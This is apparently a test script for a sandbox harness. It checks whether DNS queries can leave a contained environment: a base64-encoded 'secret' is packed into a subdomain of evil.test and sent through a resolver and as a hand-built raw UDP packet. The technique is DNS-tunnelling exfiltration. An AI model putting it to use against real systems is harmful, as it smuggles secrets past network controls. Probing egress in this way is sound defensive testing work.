import { createSocket } from 'node:dgram';
import { Resolver, lookup, getServers } from 'node:dns/promises';
import { attempt, bounded, lures } from './attack.mjs';

const name = 'c2VjcmV0LW9mLXRoZS1jYXJk.data.evil.test';
const server = `127.0.0.1:${lures.udpPort}`;

await attempt('resolver', async () => {
  const resolver = new Resolver({ timeout: 300, tries: 1 });
  resolver.setServers([server]);
  // Nobody answers: a time-out means that the question left, a refusal that it did not.
  const failure = await resolver.resolve4(name).catch((error) => error.code);
  return failure === 'ETIMEOUT' && bounded ? 'asked' : '';
});
await attempt('raw-query', () =>
  new Promise((resolve, reject) => {
    const labels = name.split('.').map((label) => Buffer.concat([Buffer.from([label.length]), Buffer.from(label)]));
    const query = Buffer.concat([Buffer.from('000101000001000000000000', 'hex'), ...labels, Buffer.from([0, 0, 1, 0, 1])]);
    const socket = createSocket('udp4');
    socket.once('error', reject);
    socket.send(query, Number(lures.udpPort), '127.0.0.1', (error) => {
      socket.close();
      // Inside, it may be sent into an empty network: the harness sees whether it arrives.
      if (error) reject(error);
      else resolve(bounded ? 'sent' : '');
    });
  }),
);
await attempt('system', async () => (await lookup('localhost.localdomain').catch(() => lookup('example.com'))).address);
await attempt('resolv-conf', () => getServers().find((address) => !/^(127\.|::1)/.test(address)));
